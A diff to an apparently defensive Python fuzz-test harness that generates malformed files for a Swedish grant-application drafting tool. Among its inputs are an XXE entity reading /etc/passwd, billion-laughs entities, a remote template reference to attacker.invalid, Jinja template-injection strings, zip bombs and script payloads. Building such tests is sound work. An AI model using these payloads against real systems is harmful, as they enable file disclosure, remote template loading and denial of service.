@@ -13,9 +13,9 @@ import os
 import random
 import sys
 import zipfile
+from collections.abc import Callable
 from dataclasses import dataclass, field
 from pathlib import Path
-from typing import Callable
 
 ROOT = Path(__file__).resolve().parents[2]
 SOURCES = ROOT.parent / "shared" / "library-sources"
@@ -50,7 +50,7 @@ class Payload:
     name: str
     make: Callable[[Path], Path]
     groups: tuple[str, ...] = FILE_READERS
-    heavy: bool = False            # large or slow to build: only in the full corpus
+    heavy: bool = False  # large or slow to build: only in the full corpus
     timeout: float = 20.0
     note: str = ""
     only: tuple[str, ...] = field(default_factory=tuple)  # restrict to these readers
@@ -68,26 +68,37 @@ def real_source_text() -> str:
 
 def good_draft_text(**changes) -> str:
     """A valid, filled-in draft written by the core itself."""
+    import datetime as dt
+
     from assistant.core.model.drafts import Contact, new_draft, to_text
     from assistant.core.model.forms import load_form
-    import datetime as dt
 
     form = load_form("finsam-malmo")
     draft = new_draft(form, title="Vägen vidare", organisation="Malmö stad", municipality="Malmö")
     draft.start, draft.end = dt.date(2026, 1, 1), dt.date(2027, 12, 31)
-    draft.contacts = [Contact(name="Anna Ek", role="Projektledare", organisation="Malmö stad",
-                              phone="040-34 10 00", email="anna.ek@example.se")]
+    draft.contacts = [
+        Contact(
+            name="Anna Ek",
+            role="Projektledare",
+            organisation="Malmö stad",
+            phone="040-34 10 00",
+            email="anna.ek@example.se",
+        )
+    ]
     for heading in form.headings:
         if heading.kind == "text":
-            draft.set_text(heading.key, f"Text om {heading.title.lower()} för unga vuxna i Malmö. "
-                                        "Kommunen och Arbetsförmedlingen samverkar kring kvinnor och män.")
+            draft.set_text(
+                heading.key,
+                f"Text om {heading.title.lower()} för unga vuxna i Malmö. "
+                "Kommunen och Arbetsförmedlingen samverkar kring kvinnor och män.",
+            )
     draft.budget.years = [2026, 2027]
     for category in form.budget.categories:
         draft.budget.set_cell(category, 2026, "100 000")
         draft.budget.set_cell(category, 2027, "100 000")
     for key, value in changes.items():
         if key.startswith("section_"):
-            draft.set_text(key[len("section_"):], value)
+            draft.set_text(key[len("section_") :], value)
         else:
             setattr(draft, key, value)
     return to_text(draft, form)
@@ -97,10 +108,13 @@ def docx_bytes(paragraphs: list[tuple[str, str | None]] | None = None) -> bytes:
     import docx
 
     document = docx.Document()
-    for text, style in paragraphs or [("Ansökan om projektmedel", "Title"), ("2. Bakgrund", "Heading 1"),
-                                      ("Många unga vuxna står långt från arbetsmarknaden och behöver stöd.", None),
-                                      ("4. Mål", "Heading 1"),
-                                      ("Minst 40 procent av deltagarna går vidare till arbete.", None)]:
+    for text, style in paragraphs or [
+        ("Ansökan om projektmedel", "Title"),
+        ("2. Bakgrund", "Heading 1"),
+        ("Många unga vuxna står långt från arbetsmarknaden och behöver stöd.", None),
+        ("4. Mål", "Heading 1"),
+        ("Minst 40 procent av deltagarna går vidare till arbete.", None),
+    ]:
         document.add_paragraph(text, style=style)
     buffer = io.BytesIO()
     document.save(buffer)
@@ -109,6 +123,7 @@ def docx_bytes(paragraphs: list[tuple[str, str | None]] | None = None) -> bytes:
 
 def pdf_bytes(lines: list[str]) -> bytes:
     """A minimal one-page PDF whose text pypdf can extract (Helvetica, WinAnsi)."""
+
     def esc(s: str) -> str:
         return s.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
 
@@ -140,18 +155,22 @@ def _write(name: str, data: bytes | str) -> Callable[[Path], Path]:
         path = directory / name
         path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
         return path
+
     return make
 
 
 def _lazy(name: str, build: Callable[[], bytes | str]) -> Callable[[Path], Path]:
     def make(directory: Path) -> Path:
         return _write(name, build())(directory)
+
     return make
 
 
-def _docx_with(name: str, extra: dict[str, bytes], content_types: bytes | None = None,
-               document_xml: bytes | None = None) -> Callable[[Path], Path]:
+def _docx_with(
+    name: str, extra: dict[str, bytes], content_types: bytes | None = None, document_xml: bytes | None = None
+) -> Callable[[Path], Path]:
     """A real .docx with members added or replaced (macros, XXE)."""
+
     def make(directory: Path) -> Path:
         source = zipfile.ZipFile(io.BytesIO(docx_bytes()))
         members = dict(extra)
@@ -167,6 +186,7 @@ def _docx_with(name: str, extra: dict[str, bytes], content_types: bytes | None =
             for member, data in members.items():
                 out.writestr(member, data)
         return path
+
     return make
 
 
@@ -176,7 +196,8 @@ EXTERNAL_RELATIONS = (
     b'<Relationship Id="rIdX2" Target="file:///etc/passwd" TargetMode="External" '
     b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"/>'
     b'<Relationship Id="rIdX3" Target="\\\\attacker.invalid\\share\\evil.dotm" TargetMode="External" '
-    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>')
+    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
+)
 
 
 def _with_external_refs(directory: Path) -> Path:
@@ -192,18 +213,21 @@ def _with_external_refs(directory: Path) -> Path:
     return path
 
 
-XXE_DOCUMENT = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
-                b'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY lol "lol">'
-                b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
-                b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
-                b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
-                b'<w:p><w:r><w:t>2. Bakgrund</w:t></w:r></w:p>'
-                b'<w:p><w:r><w:t>Hemlig fil: &xxe; och &lol3;</w:t></w:r></w:p>'
-                b'</w:body></w:document>')
+XXE_DOCUMENT = (
+    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+    b'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY lol "lol">'
+    b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
+    b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
+    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
+    b"<w:p><w:r><w:t>2. Bakgrund</w:t></w:r></w:p>"
+    b"<w:p><w:r><w:t>Hemlig fil: &xxe; och &lol3;</w:t></w:r></w:p>"
+    b"</w:body></w:document>"
+)
 
 
 def _zip_bomb(name: str, members: int, member_bytes: int) -> Callable[[Path], Path]:
     """A small .docx whose members decompress to `members × member_bytes` of zeros."""
+
     def make(directory: Path) -> Path:
         base = zipfile.ZipFile(io.BytesIO(docx_bytes()))
         path = directory / name
@@ -216,6 +240,7 @@ def _zip_bomb(name: str, members: int, member_bytes: int) -> Callable[[Path], Pa
                     for _ in range(member_bytes >> 20):
                         member.write(chunk)
         return path
+
     return make
 
 
@@ -250,6 +275,7 @@ def _flipped(name: str, build: Callable[[], bytes]) -> Callable[[Path], Path]:
             i = rng.randrange(len(data) // 4, len(data))
             data[i] ^= 0xFF
         return bytes(data)
+
     return _lazy(name, corrupt)
 
 
@@ -258,10 +284,16 @@ def _png() -> bytes:
     import zlib
 
     raw = b"".join(b"\0" + b"\xff\x00\x00" * 8 for _ in range(8))
+
     def chunk(kind: bytes, body: bytes) -> bytes:
         return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
-    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 8, 8, 8, 2, 0, 0, 0))
-            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))
+
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + chunk(b"IHDR", struct.pack(">IIBBBBB", 8, 8, 8, 2, 0, 0, 0))
+        + chunk(b"IDAT", zlib.compress(raw))
+        + chunk(b"IEND", b"")
+    )
 
 
 def _elf() -> bytes:
@@ -351,7 +383,7 @@ def _dev_zero(directory: Path) -> Path:
 
 CONTROL = "".join(chr(c) for c in range(1, 32) if c not in (9, 10, 13)) + "\x7f\x1b[31m\x1b]0;titel\x07"
 RTL = "\u202eטקסט בעברית\u202c و نص عربي \u200fمرحبا\u200e – svensk text om samverkan."
-EMOJI = "Deltagarna 👩‍👩‍👧‍👦 når målen 🎯🚀 tillsammans med kommunen 🇸🇪. \U0001F600" * 3
+EMOJI = "Deltagarna 👩‍👩‍👧‍👦 når målen 🎯🚀 tillsammans med kommunen 🇸🇪. \U0001f600" * 3
 JINJA = "{{ ''.__class__.__mro__ }} {% include '/etc/passwd' %} {{ config }} {{ lipsum.__globals__ }}"
 HTML = "<script>alert(1)</script><p>2. Bakgrund</p><ul><li>Stöd</li><li>Praktik</li></ul><iframe src=x>"
 
@@ -372,7 +404,9 @@ def file_payloads() -> list[Payload]:
         Payload("bara-blanksteg", _write("blanksteg.md", "\n \n\t\n")),
         Payload("50mb-text", _big_text, heavy=True, timeout=60),
         Payload("ogiltig-utf8", _write("ogiltig.txt", APPLICATION_TEXT.encode() + b"\xff\xfe\xc3\x28 trasig")),
-        Payload("ogiltig-utf8-utkast", _lazy("ogiltig.md", lambda: good_draft_text().encode() + b"\n\xc3\x28\xa0\xa1\n")),
+        Payload(
+            "ogiltig-utf8-utkast", _lazy("ogiltig.md", lambda: good_draft_text().encode() + b"\n\xc3\x28\xa0\xa1\n")
+        ),
         Payload("utf16-bom", _write("utf16.txt", APPLICATION_TEXT.encode("utf-16"))),
         Payload("utf16-utkast", _lazy("utf16.md", lambda: good_draft_text().encode("utf-16"))),
         Payload("utf16-utan-bom", _write("utf16le.txt", APPLICATION_TEXT.encode("utf-16-le"))),
@@ -381,7 +415,9 @@ def file_payloads() -> list[Payload]:
         Payload("bara-cr", _lazy("cr.txt", lambda: APPLICATION_TEXT.replace("\n", "\r"))),
         Payload("cp1252", _write("windows.txt", APPLICATION_TEXT.encode("cp1252", "replace"))),
         Payload("kontrolltecken", _write("kontroll.txt", _source_with(CONTROL))),
-        Payload("kontrolltecken-utkast", _lazy("kontroll.md", _draft_with(bakgrund=CONTROL, mal="ok \ufffe\uffff \ud7ff"))),
+        Payload(
+            "kontrolltecken-utkast", _lazy("kontroll.md", _draft_with(bakgrund=CONTROL, mal="ok \ufffe\uffff \ud7ff"))
+        ),
         Payload("nul-tecken", _write("nul.txt", _source_with("a\x00b\x00c"))),
         Payload("hoger-till-vanster", _write("rtl.txt", _source_with(RTL))),
         Payload("hoger-till-vanster-utkast", _lazy("rtl.md", _draft_with(bakgrund=RTL, presentation=RTL))),
@@ -409,9 +445,14 @@ def file_payloads() -> list[Payload]:
         Payload("trasig-pdf", _lazy("trasig.pdf", lambda: b"%PDF-1.7\n" + random.Random(5).randbytes(20_000))),
         Payload("pdf-utan-text", _lazy("tom.pdf", lambda: pdf_bytes([]))),
         Payload("docx-utan-dokument", _lazy("utan.docx", lambda: _zip_without_document())),
-        Payload("makro-docm", _docx_with("makro.docm", {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(4000)},
-                                         b'<Override PartName="/word/vbaProject.bin" '
-                                         b'ContentType="application/vnd.ms-office.vbaProject"/>')),
+        Payload(
+            "makro-docm",
+            _docx_with(
+                "makro.docm",
+                {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(4000)},
+                b'<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
+            ),
+        ),
         Payload("makro-som-docx", _docx_with("makro.docx", {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(4000)})),
         Payload("externa-referenser", _with_external_refs),
         Payload("xxe-docx", _docx_with("xxe.docx", {}, document_xml=XXE_DOCUMENT)),
@@ -447,6 +488,7 @@ def _replace_front(old: str, new: str) -> Callable[[], str]:
         text = good_draft_text()
         assert old in text, old
         return text.replace(old, new, 1)
+
     return _lazy("utkast.md", build)
 
 
@@ -467,11 +509,25 @@ def _many_sections() -> str:
 
 
 def _markup_torture() -> str:
-    nasty = "\n".join([
-        "\\## inte en rubrik", "\\\\## två snedstreck", "+++", "### underrubrik", "####### sju",
-        "\t".join(["cell"] * 400), "- " * 2000, "1. " * 500, "*" * 5000, "**fet utan slut",
-        "    - djup punkt", "        - djupare", "[länk](javascript:alert(1))", "<w:p>xml</w:p>", "&amp; &#0; &#xD800;",
-    ])
+    nasty = "\n".join(
+        [
+            "\\## inte en rubrik",
+            "\\\\## två snedstreck",
+            "+++",
+            "### underrubrik",
+            "####### sju",
+            "\t".join(["cell"] * 400),
+            "- " * 2000,
+            "1. " * 500,
+            "*" * 5000,
+            "**fet utan slut",
+            "    - djup punkt",
+            "        - djupare",
+            "[länk](javascript:alert(1))",
+            "<w:p>xml</w:p>",
+            "&amp; &#0; &#xD800;",
+        ]
+    )
     return good_draft_text(section_bakgrund=nasty, section_mal="+++\nschema = 99\n+++")
 
 
@@ -481,11 +537,15 @@ def draft_payloads() -> list[Payload]:
         Payload("giltigt-utkast", _lazy("giltig.md", good_draft_text), g),
         Payload("dubbla-avsnitt", _lazy("dubbla.md", _body_dup), g),
         Payload("saknade-avsnitt", _lazy("saknade.md", _only_two_sections), g),
-        Payload("inga-rubriker", _lazy("inga.md", lambda: good_draft_text().split("\n## ", 1)[0] + "\nBara text.\n"), g),
+        Payload(
+            "inga-rubriker", _lazy("inga.md", lambda: good_draft_text().split("\n## ", 1)[0] + "\nBara text.\n"), g
+        ),
         Payload("5000-avsnitt", _lazy("manga.md", _many_sections), g, timeout=40),
         Payload("markup-tortyr", _lazy("markup.md", _markup_torture), g),
         Payload("utan-huvud", _write("utan-huvud.md", "## 2. Bakgrund\n\nText utan TOML-huvud.\n"), g),
-        Payload("huvud-utan-slut", _write("oavslutat.md", "+++\nschema = 1\nform = \"finsam-malmo\"\n\n## 2. Bakgrund\n"), g),
+        Payload(
+            "huvud-utan-slut", _write("oavslutat.md", '+++\nschema = 1\nform = "finsam-malmo"\n\n## 2. Bakgrund\n'), g
+        ),
         Payload("toml-fel-i-huvud", _replace_front('title = "Vägen vidare"', 'title = "Vägen vidare'), g),
         Payload("dubbel-nyckel-i-huvud", _replace_front('title = "Vägen vidare"', 'title = "A"\ntitle = "B"'), g),
         Payload("schema-99", _replace_front("schema = 1", "schema = 99"), g),
@@ -497,32 +557,96 @@ def draft_payloads() -> list[Payload]:
         Payload("datum-30-feb", _replace_front("start = 2026-01-01", "start = 2020-02-30"), g),
         Payload("datum-30-feb-text", _replace_front("start = 2026-01-01", 'start = "2020-02-30"'), g),
         Payload("start-efter-slut", _replace_front("start = 2026-01-01", "start = 2029-01-01"), g),
-        Payload("absurd-period", _replace_front("start = 2026-01-01\nend = 2027-12-31",
-                                                "start = 0001-01-01\nend = 9999-12-31"), g),
+        Payload(
+            "absurd-period",
+            _replace_front("start = 2026-01-01\nend = 2027-12-31", "start = 0001-01-01\nend = 9999-12-31"),
+            g,
+        ),
         Payload("datum-med-tid", _replace_front("start = 2026-01-01", "start = 2026-01-01T10:00:00+02:00"), g),
-        Payload("kontakter-fel-typ", _lazy("kontakt.md", lambda: good_draft_text().replace("[[contacts]]", "[[contacts_x]]")
-                                            .replace("+++\n", '+++\ncontacts = "Anna"\n', 1)), g),
+        Payload(
+            "kontakter-fel-typ",
+            _lazy(
+                "kontakt.md",
+                lambda: (
+                    good_draft_text()
+                    .replace("[[contacts]]", "[[contacts_x]]")
+                    .replace("+++\n", '+++\ncontacts = "Anna"\n', 1)
+                ),
+            ),
+            g,
+        ),
         Payload("kontakt-okand-nyckel", _replace_front('name = "Anna Ek"', 'name = "Anna Ek"\nshoe_size = 42'), g),
-        Payload("budget-fel-typ", _lazy("budget-typ.md", lambda: _budget_front("budget = \"mycket\"")), g),
-        Payload("budget-ar-dubbla", _lazy("budget-ar.md", lambda: _budget_front(
-            "[budget]\nyears = [2026, 2026]\ncategories = [\"Personal\"]")), g),
-        Payload("budget-ar-orimliga", _lazy("budget-ar2.md", lambda: _budget_front(
-            "[budget]\nyears = [-5, 99999999999]\ncategories = [\"Personal\"]")), g),
-        Payload("budget-ar-flyttal", _lazy("budget-ar3.md", lambda: _budget_front(
-            "[budget]\nyears = [2026.5]\ncategories = [\"Personal\"]")), g),
-        Payload("budget-rad-fel-langd", _lazy("budget-rad.md", lambda: _budget_front(
-            "[budget]\nyears = [2026, 2027]\ncategories = [\"Personal\"]\ncompiled = { Personal = [\"1\"] }")), g),
-        Payload("budget-poster-fel", _lazy("budget-poster.md", lambda: _budget_front(
-            "[budget]\nyears = [2026]\ncategories = [\"Personal\"]\nitems = [1, 2, 3]")), g),
-        Payload("budget-per-ar-fel", _lazy("budget-perar.md", lambda: _budget_front(
-            "[budget]\nyears = [2026]\ncategories = [\"Personal\"]\n[[budget.items]]\ncategory = \"Personal\"\n"
-            "text = \"Lön\"\nper_year = { tjugo = \"5\" }")), g),
-        Payload("budget-stated-fel", _lazy("budget-stated.md", lambda: _budget_front(
-            "[budget]\nyears = [2026]\ncategories = [\"Personal\"]\n[budget.stated]\nrows = \"x\"\nyears = 5\n"
-            "subtotals = [1]")), g),
-        Payload("budget-3000-ar", _lazy("budget-manga-ar.md", lambda: _budget_front(
-            "[budget]\nyears = [" + ", ".join(str(y) for y in range(1900, 2200)) + "]\ncategories = [\"Personal\"]\n"
-            "compiled = { Personal = [" + ", ".join('"1 000"' for _ in range(1900, 2200)) + "] }")), g),
+        Payload("budget-fel-typ", _lazy("budget-typ.md", lambda: _budget_front('budget = "mycket"')), g),
+        Payload(
+            "budget-ar-dubbla",
+            _lazy("budget-ar.md", lambda: _budget_front('[budget]\nyears = [2026, 2026]\ncategories = ["Personal"]')),
+            g,
+        ),
+        Payload(
+            "budget-ar-orimliga",
+            _lazy(
+                "budget-ar2.md", lambda: _budget_front('[budget]\nyears = [-5, 99999999999]\ncategories = ["Personal"]')
+            ),
+            g,
+        ),
+        Payload(
+            "budget-ar-flyttal",
+            _lazy("budget-ar3.md", lambda: _budget_front('[budget]\nyears = [2026.5]\ncategories = ["Personal"]')),
+            g,
+        ),
+        Payload(
+            "budget-rad-fel-langd",
+            _lazy(
+                "budget-rad.md",
+                lambda: _budget_front(
+                    '[budget]\nyears = [2026, 2027]\ncategories = ["Personal"]\ncompiled = { Personal = ["1"] }'
+                ),
+            ),
+            g,
+        ),
+        Payload(
+            "budget-poster-fel",
+            _lazy(
+                "budget-poster.md",
+                lambda: _budget_front('[budget]\nyears = [2026]\ncategories = ["Personal"]\nitems = [1, 2, 3]'),
+            ),
+            g,
+        ),
+        Payload(
+            "budget-per-ar-fel",
+            _lazy(
+                "budget-perar.md",
+                lambda: _budget_front(
+                    '[budget]\nyears = [2026]\ncategories = ["Personal"]\n[[budget.items]]\ncategory = "Personal"\n'
+                    'text = "Lön"\nper_year = { tjugo = "5" }'
+                ),
+            ),
+            g,
+        ),
+        Payload(
+            "budget-stated-fel",
+            _lazy(
+                "budget-stated.md",
+                lambda: _budget_front(
+                    '[budget]\nyears = [2026]\ncategories = ["Personal"]\n[budget.stated]\nrows = "x"\nyears = 5\n'
+                    "subtotals = [1]"
+                ),
+            ),
+            g,
+        ),
+        Payload(
+            "budget-3000-ar",
+            _lazy(
+                "budget-manga-ar.md",
+                lambda: _budget_front(
+                    "[budget]\nyears = ["
+                    + ", ".join(str(y) for y in range(1900, 2200))
+                    + ']\ncategories = ["Personal"]\n'
+                    "compiled = { Personal = [" + ", ".join('"1 000"' for _ in range(1900, 2200)) + "] }"
+                ),
+            ),
+            g,
+        ),
         Payload("stor-18mb-utkast", _big_draft, g, heavy=True, timeout=60),
     ]
 
@@ -543,29 +667,51 @@ def _budget_front(budget_toml: str) -> str:
 
 
 BAD_CELLS = {
-    "bokstaver": "ettusen kr", "formel": "=SUM(A1:A3)", "formel-at": "@SUM(A1)", "negativ": "-50 000",
-    "minus-minus": "--5", "1e30": "1e30", "17-nior": "99999999999999999", "10000-siffror": "9" * 10_000,
-    "exponent-jatte": "1e999999999", "nan": "NaN", "oandlig": "Infinity", "hex": "0x10",
-    "arabiska-siffror": "١٢٣", "understreck": "1_000", "decimal-massa": "1,123456789123456789",
-    "mkr": "1,4 mkr", "tkr": "8 000 tkr", "blandat": "12 kr 13 kr", "html": "<b>5</b>", "mall": "{{ 7*7 }}",
-    "kontroll": "1\x00\x1b 000", "tom": "", "blanksteg": "   ", "nbsp": "1\u00a0373\u00a0334 kr",
-    "procent": "50 %", "lang": "1 000 " * 2000,
+    "bokstaver": "ettusen kr",
+    "formel": "=SUM(A1:A3)",
+    "formel-at": "@SUM(A1)",
+    "negativ": "-50 000",
+    "minus-minus": "--5",
+    "1e30": "1e30",
+    "17-nior": "99999999999999999",
+    "10000-siffror": "9" * 10_000,
+    "exponent-jatte": "1e999999999",
+    "nan": "NaN",
+    "oandlig": "Infinity",
+    "hex": "0x10",
+    "arabiska-siffror": "١٢٣",
+    "understreck": "1_000",
+    "decimal-massa": "1,123456789123456789",
+    "mkr": "1,4 mkr",
+    "tkr": "8 000 tkr",
+    "blandat": "12 kr 13 kr",
+    "html": "<b>5</b>",
+    "mall": "{{ 7*7 }}",
+    "kontroll": "1\x00\x1b 000",
+    "tom": "",
+    "blanksteg": "   ",
+    "nbsp": "1\u00a0373\u00a0334 kr",
+    "procent": "50 %",
+    "lang": "1 000 " * 2000,
 }
 
 
 def budget_payloads() -> list[Payload]:
     out = []
     for name, cell in BAD_CELLS.items():
+
         def build(cell: str = cell) -> str:
             import tomli_w
 
             value = tomli_w.dumps({"v": cell}).split("=", 1)[1].strip()
             return _budget_front(
-                "[budget]\nyears = [2026, 2027]\ncategories = [\"Personal\", \"Lokaler\"]\n"
-                f"compiled = {{ Personal = [{value}, \"100 000\"], Lokaler = [\"5 000\", {value}] }}\n"
-                f"[[budget.items]]\ncategory = \"Personal\"\ntext = \"Projektledare 100 %\"\ntotal = {value}\n"
-                f"per_year = {{ \"2026\" = {value} }}\n"
-                f"[budget.stated]\ngrand = {value}\n")
+                '[budget]\nyears = [2026, 2027]\ncategories = ["Personal", "Lokaler"]\n'
+                f'compiled = {{ Personal = [{value}, "100 000"], Lokaler = ["5 000", {value}] }}\n'
+                f'[[budget.items]]\ncategory = "Personal"\ntext = "Projektledare 100 %"\ntotal = {value}\n'
+                f'per_year = {{ "2026" = {value} }}\n'
+                f"[budget.stated]\ngrand = {value}\n"
+            )
+
         out.append(Payload(f"budgetcell-{name}", _lazy(f"budget-{name}.md", build), BUDGET_READERS))
     return out
 
@@ -579,6 +725,7 @@ def _form_edit(old: str, new: str, *, count: int = 1) -> Callable[[], str]:
         text = FORM_FILE.read_text(encoding="utf-8")
         assert old in text, old
         return text.replace(old, new, count)
+
     return build
 
 
@@ -592,18 +739,23 @@ def form_payloads() -> list[Payload]:
     name_line = 'name = "FINSAM Malmö – ansökan om projektmedel"'
     cases = {
         "oavslutad-text": _form_edit(name_line, 'name = "FINSAM Malmö'),
-        "oavslutad-flerradstext": _form_edit('Vid frågor kontakta FINSAM:s kansli, se www.finsamimalmo.se\n"""',
-                                             "Vid frågor kontakta FINSAM:s kansli"),
+        "oavslutad-flerradstext": _form_edit(
+            'Vid frågor kontakta FINSAM:s kansli, se www.finsamimalmo.se\n"""', "Vid frågor kontakta FINSAM:s kansli"
+        ),
         "dubbel-nyckel": _form_edit(name_line, name_line + '\nname = "igen"'),
         "dubbel-tabell": lambda: FORM_FILE.read_text(encoding="utf-8") + '\n[page]\nsize = "A4"\n',
         "ogiltigt-datum": _form_edit(name_line, name_line + "\ncreated = 2020-02-30"),
         "fel-typ-max-pages": _form_edit("max_pages = 7", 'max_pages = "sju"'),
         "fel-typ-font-size": _form_edit("font_size = 11", "font_size = true"),
         "fel-typ-titel": _form_edit('title = "Bakgrund"', "title = 5"),
-        "fel-typ-kategorier": _form_edit('categories = ["Personal", "Externa tjänster", "Lokaler", "Övriga kostnader"]',
-                                         'categories = "Personal"'),
-        "fel-typ-rubriker": lambda: FORM_FILE.read_text(encoding="utf-8").split("[[headings]]", 1)[0]
-        .replace(name_line, name_line + '\nheadings = "alla"'),
+        "fel-typ-kategorier": _form_edit(
+            'categories = ["Personal", "Externa tjänster", "Lokaler", "Övriga kostnader"]', 'categories = "Personal"'
+        ),
+        "fel-typ-rubriker": lambda: (
+            FORM_FILE.read_text(encoding="utf-8")
+            .split("[[headings]]", 1)[0]
+            .replace(name_line, name_line + '\nheadings = "alla"')
+        ),
         "saknar-id": _form_edit('id = "finsam-malmo"\n', ""),
         "saknar-rubriker": _form_without_headings,
         "rubrik-utan-nyckel": _form_edit('key = "bakgrund"\n', ""),
@@ -620,24 +772,39 @@ def form_payloads() -> list[Payload]:
         "jattetal": _form_edit("max_pages = 7", "max_pages = 99999999999999999999999"),
         "noll-sidor": _form_edit("max_pages = 7", "max_pages = 0"),
         "mall-trasig": _form_edit('title_template = "Ansökan: {{ title }}"', 'title_template = "Ansökan: {{ title"'),
-        "mall-injektion": _form_edit('title_template = "Ansökan: {{ title }}"',
-                                     "title_template = \"{{ ''.__class__.__mro__[1].__subclasses__() }}\""),
-        "mall-include": _form_edit('title_template = "Ansökan: {{ title }}"',
-                                   "title_template = \"{% include '/etc/passwd' %}\""),
+        "mall-injektion": _form_edit(
+            'title_template = "Ansökan: {{ title }}"',
+            "title_template = \"{{ ''.__class__.__mro__[1].__subclasses__() }}\"",
+        ),
+        "mall-include": _form_edit(
+            'title_template = "Ansökan: {{ title }}"', "title_template = \"{% include '/etc/passwd' %}\""
+        ),
         "okand-kontroll": lambda: FORM_FILE.read_text(encoding="utf-8") + "\n[checks.finns_inte]\nx = 1\n",
         "bara-kommentarer": lambda: "# bara en kommentar\n",
         "trasig-syntax": lambda: "= värde\n[[headings]\n",
         "styrtecken-i-text": _form_edit(name_line, 'name = "FINSAM\x01Malmö"'),
         "for-stor": lambda: FORM_FILE.read_text(encoding="utf-8") + "# " + "x" * 1_100_000 + "\n",
         "nastlad-djup": lambda: "a = " + "[" * 5000 + "]" * 5000 + "\n",
-        "feltyp-kontroll": lambda: FORM_FILE.read_text(encoding="utf-8").replace("[checks.page_limit]",
-                                                                                 "[checks.page_limit]\nlevel = [1]"),
+        "feltyp-kontroll": lambda: FORM_FILE.read_text(encoding="utf-8").replace(
+            "[checks.page_limit]", "[checks.page_limit]\nlevel = [1]"
+        ),
     }
     out = [Payload(f"formular-{name}", _lazy(f"{name}.toml", build), g) for name, build in cases.items()]
-    out.append(Payload("formular-giltigt", _lazy("finsam-malmo.toml", lambda: FORM_FILE.read_text(encoding="utf-8")), g))
-    out.append(Payload("formular-utf16", _lazy("utf16.toml", lambda: FORM_FILE.read_text(encoding="utf-8").encode("utf-16")), g))
-    out.append(Payload("formular-latin1", _lazy("latin1.toml", lambda: FORM_FILE.read_text(encoding="utf-8")
-                                                 .encode("latin-1", "replace")), g))
+    out.append(
+        Payload("formular-giltigt", _lazy("finsam-malmo.toml", lambda: FORM_FILE.read_text(encoding="utf-8")), g)
+    )
+    out.append(
+        Payload(
+            "formular-utf16", _lazy("utf16.toml", lambda: FORM_FILE.read_text(encoding="utf-8").encode("utf-16")), g
+        )
+    )
+    out.append(
+        Payload(
+            "formular-latin1",
+            _lazy("latin1.toml", lambda: FORM_FILE.read_text(encoding="utf-8").encode("latin-1", "replace")),
+            g,
+        )
+    )
     return out
 
 
